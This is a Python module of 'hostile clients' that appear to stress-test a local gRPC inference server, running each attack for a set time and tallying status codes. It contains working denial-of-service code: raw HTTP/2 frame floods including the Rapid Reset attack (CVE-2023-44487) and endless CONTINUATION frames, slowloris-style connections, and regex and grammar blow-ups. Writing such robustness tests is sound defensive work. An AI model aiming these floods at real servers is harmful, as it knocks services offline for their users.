"""Hostile clients, one kind a function. `campaigns.hostile` runs each in its own processes.

python -m campaigns.hostile_callers KIND DATA_PORT HEALTH_PORT METRICS_PORT STATUS_PORT SECONDS

Prints the number of attempts and the status codes as JSON. Errors are expected: the server refuses and disconnects.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import grpc
import grpc.aio
from grpc_health.v1 import health_pb2, health_pb2_grpc

from lineclear.v1 import inference_pb2 as pb
from lineclear.v1 import inference_pb2_grpc

SLOW = "777"
"""First message of a conversation that the campaign's template renders slowly."""
_METHOD = b"/lineclear.v1.InferenceService/"
_THREADS = 4
_outcomes: Counter[str] = Counter()
"""Number of calls by status code."""


@contextlib.contextmanager
def _counted() -> Iterator[None]:
    """Count the status code of a call."""
    outcome = "OK"
    try:
        yield
    except grpc.RpcError as error:
        outcome = error.code().name
    _outcomes[outcome] += 1


@dataclass(frozen=True)
class Target:
    """The ports of a local server, and the end of the run."""

    data: int
    health: int
    metrics: int
    status: int
    end: float

    @property
    def is_over(self) -> bool:
        return time.monotonic() >= self.end

    def channel(self, aio: bool = False) -> Any:
        """Open a new connection."""
        make = grpc.aio.insecure_channel if aio else grpc.insecure_channel
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        return make(f"127.0.0.1:{self.data}", options=options)


def _in_threads(target: Target, call: Callable[[Any], object], num_threads: int = _THREADS) -> int:
    """Repeat a call in several threads, each with its own connection."""
    counts = [0] * num_threads

    def work(number: int) -> None:
        with target.channel() as channel:
            stub = inference_pb2_grpc.InferenceServiceStub(channel)
            while not (counts[number] and target.is_over):  # at least once
                with _counted():
                    call(stub)
                counts[number] += 1

    threads = [threading.Thread(target=work, args=(number,)) for number in range(num_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


# --- text ------------------------------------------------------------------------------------------------------------


def _conversation(first: str, messages: int) -> pb.ChatMessages:
    contents = [first, *[""] * (messages - 1)]
    return pb.ChatMessages(messages=[pb.ChatMessage(role="user", content=content) for content in contents])


def template_flood(target: Target) -> int:
    """Send conversations with very many messages."""
    request = pb.TokenizeRequest(chat=_conversation("", int(os.environ.get("HOSTILE_MESSAGES", "1024"))))
    return _in_threads(target, lambda stub: stub.Tokenize(request))


def slow_template(target: Target) -> int:
    """Send conversations that the template renders slowly."""
    request = pb.TokenizeRequest(chat=_conversation(SLOW, 1))
    return _in_threads(target, lambda stub: stub.Tokenize(request, timeout=5))


def detokenize_flood(target: Target) -> int:
    """Detokenize as many tokens as the server accepts."""
    request = pb.DetokenizeRequest(token_ids=[300] * int(os.environ.get("HOSTILE_TOKENS", "65000")))
    return _in_threads(target, lambda stub: stub.Detokenize(request))


def tokenize_flood(target: Target) -> int:
    """Tokenize the longest text that the server accepts."""
    request = pb.TokenizeRequest(text="quick brown " * 40_000)
    return _in_threads(target, lambda stub: stub.Tokenize(request))


def resume_flood(target: Target) -> int:
    """Resume requests after as many tokens as the context holds, with stop strings."""
    with target.channel() as channel:
        model = inference_pb2_grpc.InferenceServiceStub(channel).GetModel(pb.GetModelRequest())
    length = min(7000, model.context_length - 2)
    request = pb.GenerateRequest(
        token_ids=pb.TokenIds(ids=[5]),
        sampling={"max_tokens": length + 1, "seed": 1, "ignore_eos": True},
        stop={"strings": ["zyxwvut" * 9] * 8},
        resume=pb.Resume(token_ids=[300] * length, model_fingerprint=model.model_fingerprint),
    )
    return _in_threads(target, lambda stub: list(stub.Generate(request)))


def form_flood(target: Target) -> int:
    """Send forms that take long to compile, each a new one: slow, of many states, large."""
    numbers = itertools.count(os.getpid() * 100_000)

    def call(stub: inference_pb2_grpc.InferenceServiceStub) -> None:
        number = next(numbers)
        schemas: tuple[Any, ...] = (
            {"type": "integer", "multipleOf": 9_000_000 + number % 999_999},
            {"type": "string", "pattern": f"^((a{{1,{number % 900 + 1}}}b?){{1,999}}c?){{1,999}}$"},
            {"enum": [f"{number}{entry}" for entry in range(12_000)]},
        )
        form = {"json_schema": json.dumps(schemas[number % len(schemas)])}
        list(stub.Generate(pb.GenerateRequest(text="x", sampling={"structured_output": form, "max_tokens": 1})))

    return _in_threads(target, call)


def slow_forms(target: Target) -> int:
    """Send forms that are compiled within the limits, each a new one that takes some of them."""
    numbers = itertools.count(os.getpid() * 100_000)

    def call(stub: inference_pb2_grpc.InferenceServiceStub) -> None:
        names = [f"k{next(numbers)}_{entry}" for entry in range(300)]
        pattern = {"type": "string", "pattern": "^[a-z]{1,50}$"}
        schema = {"anyOf": [{"type": "object", "properties": {name: pattern}, "required": [name]} for name in names]}
        form = {"json_schema": json.dumps(schema)}
        list(stub.Generate(pb.GenerateRequest(text="x", sampling={"structured_output": form, "max_tokens": 1})))

    return _in_threads(target, call)


def embed_flood(target: Target) -> int:
    """Ask for the vectors of 64 inputs of 128 tokens, each a new one."""
    rng = random.Random(os.getpid())

    def call(stub: inference_pb2_grpc.InferenceServiceStub) -> None:
        inputs = [pb.EmbedInput(token_ids=pb.TokenIds(ids=[rng.randrange(500) for _ in range(128)])) for _ in range(64)]
        stub.Embed(pb.EmbedRequest(inputs=inputs))

    return _in_threads(target, call)


def score_flood(target: Target) -> int:
    """Score 128 continuations of 90 words, with the 20 most likely tokens at each place."""
    rng = random.Random(os.getpid())
    words = ("quick", "brown", "fox", "jumps", "over", "dogs")

    def call(stub: inference_pb2_grpc.InferenceServiceStub) -> None:
        texts = [" ".join(rng.choice(words) for _ in range(90)) for _ in range(128)]
        continuations = [pb.Continuation(text=text) for text in texts]
        stub.Score(pb.ScoreRequest(text="once upon a time", continuations=continuations, top_logprobs=20))

    return _in_threads(target, call)


def tool_lists(target: Target) -> int:
    """Send conversations with as many and as large tools as a request may have."""
    fields = {f"field_{number}": {"type": "string", "description": "quick brown " * 5} for number in range(32)}
    schema = json.dumps({"type": "object", "properties": fields})
    chat = _conversation("", 1)
    for number in range(128):
        chat.tools.add(name=f"tool_{number}", description="quick", parameters=schema)
    request = pb.TokenizeRequest(chat=chat)
    return _in_threads(target, lambda stub: stub.Tokenize(request))


def stats_flood(target: Target) -> int:
    """Call GetStats and GetModel without a pause."""
    return _in_threads(target, lambda stub: (stub.GetStats(pb.GetStatsRequest()), stub.GetModel(pb.GetModelRequest())))


# --- requests --------------------------------------------------------------------------------------------------------


def cancel_storm(target: Target) -> int:
    """Cancel requests right after sending them, by Generate and over a Session."""
    return asyncio.run(_cancel_storm(target))


async def _cancel_storm(target: Target) -> int:
    count = 0
    data = pb.GenerateRequest(text="quick brown " * 20, sampling={"max_tokens": 400}).SerializeToString()

    async def calls() -> None:
        nonlocal count
        async with target.channel(aio=True) as channel:
            generate = channel.unary_stream((_METHOD + b"Generate").decode())
            while not (count and target.is_over):
                call = generate(data)
                count += 1
                await asyncio.sleep(0.002 * (count % 7 == 0))
                call.cancel()

    async def commands() -> None:
        nonlocal count
        request = pb.GenerateRequest(text="quick brown", sampling={"max_tokens": 400})
        async with target.channel(aio=True) as channel:
            session = inference_pb2_grpc.InferenceServiceStub(channel).Session()

            async def read() -> None:
                with contextlib.suppress(grpc.RpcError):
                    while await session.read() is not grpc.aio.EOF:
                        pass

            reader = asyncio.ensure_future(read())
            with contextlib.suppress(grpc.RpcError, asyncio.InvalidStateError):
                while not target.is_over:
                    handles = range(count, count + 16)
                    count += 16
                    await session.write(
                        pb.SessionRequest(
                            submits=[pb.SubmitCommand(handle=handle, request=request) for handle in handles],
                            cancels=[pb.CancelCommand(handle=handle) for handle in handles],
                        )
                    )
                    await asyncio.sleep(0.002)
            reader.cancel()

    await asyncio.gather(*(calls() for _ in range(_THREADS)), commands())
    return count


def oversized_requests(target: Target) -> int:
    """Send requests above the size limit, in a Session and by Generate."""
    request = pb.GenerateRequest(text="x" * 5_000_000)
    command = pb.SessionRequest(submits=[pb.SubmitCommand(handle=1, request=request)])

    def call(stub: Any) -> None:
        with _counted():
            list(stub.Generate(request))
        list(stub.Session(iter([command])))

    return _in_threads(target, call)


def heavy_requests(target: Target) -> int:
    """Send requests with every list at its limit, most of them invalid in the last field."""
    sampling = {
        "allowed_token_ids": list(range(400)) * 10,
        "banned_token_ids": [500] * 4096,
        "logit_bias": [{"token_id": token, "bias": 1.0} for token in range(300)],
        "top_p": 7.0,
    }
    stop = {"strings": ["abcdefgh" * 7 + str(n) for n in range(8)]}
    request = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5] * 8000), sampling=sampling, stop=stop)
    command = pb.SessionRequest(submits=[pb.SubmitCommand(handle=handle, request=request) for handle in range(32)])

    def call(stub: Any) -> None:
        with _counted():
            list(stub.Generate(request))
        list(stub.Session(iter([command])))

    return _in_threads(target, call)


def beam_searches(target: Target) -> int:
    """Search with as many beams and end ids as the server accepts, up to the end."""
    request = pb.GenerateRequest(
        token_ids=pb.TokenIds(ids=[9, 10]),
        sampling={"num_beams": 32, "max_tokens": 400, "min_tokens": 399, "early_stopping": 3},
        stop={"token_ids": range(100, 116), "eos_token_ids": range(200, 216)},
    )
    return _in_threads(target, lambda stub: list(stub.Generate(request)), num_threads=1)


def ambiguous_grammars(target: Target) -> int:
    """Ask for answers of a grammar whose work grows with each token."""
    form = {"grammar": 'start: "x" a\na: a a | a a a | a a a a | /[a-z ]/'}
    request = pb.GenerateRequest(text="x", sampling={"structured_output": form, "max_tokens": 200})
    return _in_threads(target, lambda stub: list(stub.Generate(request)))


def lexer_heavy_forms(target: Target) -> int:
    """Ask for answers of a regular expression of which each mask is near the bound of its work."""
    parts = "|".join(f"[a-z ]*{chr(97 + i)}[a-z ]{{{5 + i}}}{chr(97 + i)}" for i in range(12))
    request = pb.GenerateRequest(
        text="x", sampling={"structured_output": {"regex": f"({parts}).*"}, "max_tokens": 200, "temperature": 1}
    )
    return _in_threads(target, lambda stub: list(stub.Generate(request)))


def repetition_penalties(target: Target) -> int:
    """Ask for DRY over the longest prompt of one token, with as many breakers as the server accepts."""
    with target.channel() as channel:
        model = inference_pb2_grpc.InferenceServiceStub(channel).GetModel(pb.GetModelRequest())
    request = pb.GenerateRequest(
        token_ids=pb.TokenIds(ids=[300] * min(7000, model.context_length - 64)),
        sampling={
            "max_tokens": 60,
            "ignore_eos": True,
            "dry_multiplier": 1.0,
            "dry_allowed_length": 1,
            "dry_penalty_last_n": -1,
            "dry_sequence_breakers": ["quick brown " * 4 + str(number) for number in range(16)],
        },
    )
    return _in_threads(target, lambda stub: list(stub.Generate(request)))


def stop_regexes(target: Target) -> int:
    """Ask for many outputs that end at the most expensive stop regex."""
    request = pb.GenerateRequest(
        text="quick brown", sampling={"max_tokens": 200, "n": 24, "ignore_eos": True}, stop={"regex": "[^z]{8,16}z{9}"}
    )
    return _in_threads(target, lambda stub: list(stub.Generate(request)), num_threads=1)


def unread_answers(target: Target) -> int:
    """Submit requests with all log probabilities and never read the answers."""
    output = pb.OutputOptions(logprobs=True, top_logprobs=20)
    sampling = {"max_tokens": 64, "ignore_eos": True}
    request = pb.SubmitRequest(
        request=pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5]), output=output, sampling=sampling)
    )
    return _in_threads(target, lambda stub: stub.Submit(request))


# --- other services --------------------------------------------------------------------------------------------------


def watch_flood(target: Target) -> int:
    """Open and hold health watches at both ports."""
    return asyncio.run(_watch_flood(target))


async def _watch_flood(target: Target) -> int:
    count = 0

    async def watch(port: int) -> None:
        nonlocal count
        while not target.is_over:
            options = [("grpc.use_local_subchannel_pool", 1)]
            async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=options) as channel:
                stub = health_pb2_grpc.HealthStub(channel)
                calls = [stub.Watch(health_pb2.HealthCheckRequest()) for _ in range(200)]
                count += len(calls)
                for call in calls:
                    with contextlib.suppress(grpc.RpcError, TimeoutError):
                        await asyncio.wait_for(call.read(), 1)
                    if target.is_over:
                        break

    await asyncio.gather(*(watch(port) for port in (target.data, target.health) for _ in range(2)))
    return count


def idle_sessions(target: Target) -> int:
    """Open sessions that send no commands."""
    return asyncio.run(_idle_sessions(target))


async def _idle_sessions(target: Target) -> int:
    opened = 0
    channels = [target.channel(aio=True) for _ in range(8)]
    calls = []
    for number in range(8 * 100):
        call = inference_pb2_grpc.InferenceServiceStub(channels[number % 8]).Session()
        calls.append(call)
        with contextlib.suppress(grpc.RpcError, TimeoutError):
            await asyncio.wait_for(call.initial_metadata(), 1)
            opened += 1
        if target.is_over:
            break
    await asyncio.sleep(max(0.0, target.end - time.monotonic()))
    for channel in channels:
        await channel.close()
    return opened


def slow_scrapers(target: Target) -> int:
    """Open many connections to the metrics port that send one byte at a time."""
    held: list[socket.socket] = []
    count = 0
    while not target.is_over:
        with contextlib.suppress(OSError):  # until it refuses
            while len(held) < 100:
                held.append(socket.create_connection(("127.0.0.1", target.metrics), 0.2))
                count += 1
        for connection in list(held):
            try:
                connection.setblocking(False)
                connection.send(b"GET /metrics HTTP/1.1\r\nX-A: a"[count % 20 :][:1])
            except OSError:
                held.remove(connection)
                connection.close()
        time.sleep(0.2)
    return count


def unread_status_streams(target: Target) -> int:
    """Open streams of the status page and never read them. Count those that the server accepts."""
    held: list[socket.socket] = []
    count = 0
    while not (count and target.is_over):
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.status), 5)
            connection.sendall(b"GET /status/steps HTTP/1.1\r\nHost: localhost\r\n\r\n")
            held.append(connection)
            count += 1
        time.sleep(0.02)
        if len(held) > 400:
            held.pop(0).close()
    return count


# --- frames ----------------------------------------------------------------------------------------------------------

_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS = 4


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
_PATH = _METHOD + b"Generate"
# POST, http, the path, an authority and the content type, as HPACK without its dynamic table.
_REQUEST = b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"


def _flood(target: Target, frames: Callable[[], Iterator[bytes]]) -> int:
    """Send frames without a pause, over one connection after another."""
    count = 0
    while not (count and target.is_over):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.data), 5) as connection:
            connection.settimeout(1.0)
            connection.sendall(_PREFACE)
            for data in frames():
                connection.sendall(data)
                count += 1
                if _receive_now(connection) == b"" or target.is_over:
                    break
        time.sleep(0.01)  # do not spin on refused connections
    return count


def _receive_now(connection: socket.socket) -> bytes | None:
    """Return the bytes received so far without waiting: empty at the end of the stream, None if there are none."""
    return connection.recv(65536) if select.select([connection], [], [], 0)[0] else None


def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        yield first
        while True:
            yield data

    return frames


def frames_of_pings(target: Target) -> int:
    """Send PING frames for ever."""
    return _flood(target, _endless(_frame(_PING, 0, 0, bytes(8)) * 100))


def frames_of_settings(target: Target) -> int:
    """Send SETTINGS frames for ever."""
    return _flood(target, _endless(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 50)) * 100))


def frames_of_empty_data(target: Target) -> int:
    """Send empty DATA frames for one request for ever."""
    return _flood(target, _endless(_frame(_DATA, 0, 1) * 100, _frame(_HEADERS, _END_HEADERS, 1, _REQUEST)))


def frames_of_continuations(target: Target) -> int:
    """Send a header block that never ends."""
    field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
    return _flood(target, _endless(_frame(_CONTINUATION, 0, 1, field), _frame(_HEADERS, 0, 1, _REQUEST)))


def frames_of_resets(target: Target) -> int:
    """Reset requests right after their headers (CVE-2023-44487)."""

    def frames() -> Iterator[bytes]:
        stream = 1
        while True:
            data = b""
            for _ in range(20):
                data += _frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + _frame(_RESET, 0, stream, bytes(3) + b"\x08")
                stream += 2
            yield data

    return _flood(target, frames)


def unfinished_requests(target: Target) -> int:
    """Start messages and never complete them, as many as the server accepts."""
    held: list[socket.socket] = []
    count = 0
    rng = random.Random(target.data)
    while not target.is_over:
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.data), 5)
            connection.settimeout(0.5)
            held.append(connection)
            connection.sendall(_PREFACE)
            window = [65535]
            for stream in range(1, 257, 2):
                connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, _REQUEST))
                connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 900_000)))
                count += 1
            started_at = time.monotonic()
            while time.monotonic() - started_at < 2 and not target.is_over:
                _take_windows(connection, window)
                if window[0] < 16384:
                    time.sleep(0.01)
                    continue
                connection.sendall(_frame(_DATA, 0, 1 + 2 * rng.randrange(128), bytes(8192)))
                window[0] -= 8192
        while len(held) > 16:
            held.pop(0).close()
    return count


def _take_windows(connection: socket.socket, window: list[int]) -> None:
    """Read window updates of the connection and add them to `window[0]`."""
    data = _receive_now(connection) or b""
    while len(data) >= 9:
        length, kind, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
        if kind == _WINDOW and stream == 0 and len(data) >= 13:
            window[0] += int.from_bytes(data[9:13], "big")
        data = data[9 + length :]


SERVED = (
    "slow_forms",
    "embed_flood",
    "score_flood",
    "template_flood",
    "detokenize_flood",
    "tokenize_flood",
    "resume_flood",
    "unread_answers",
    "stats_flood",
    "beam_searches",
    "repetition_penalties",
    "stop_regexes",
    "tool_lists",
)
"""Kinds that prove nothing unless some of their calls succeed."""

KINDS: dict[str, Callable[[Target], int]] = {
    kind.__name__: kind
    for kind in (
        unfinished_requests,
        cancel_storm,
        template_flood,
        slow_template,
        detokenize_flood,
        tokenize_flood,
        resume_flood,
        form_flood,
        slow_forms,
        embed_flood,
        score_flood,
        heavy_requests,
        oversized_requests,
        beam_searches,
        ambiguous_grammars,
        lexer_heavy_forms,
        repetition_penalties,
        stop_regexes,
        tool_lists,
        unread_answers,
        unread_status_streams,
        stats_flood,
        watch_flood,
        idle_sessions,
        slow_scrapers,
        frames_of_pings,
        frames_of_settings,
        frames_of_empty_data,
        frames_of_continuations,
        frames_of_resets,
    )
}


def main() -> None:
    """Run one kind for the given seconds."""
    kind, *numbers = sys.argv[1:]
    *ports, seconds = numbers
    target = Target(*map(int, ports), end=time.monotonic() + float(seconds))
    times = KINDS[kind](target)
    print(json.dumps({"times": times, "outcomes": _outcomes}))


if __name__ == "__main__":
    main()
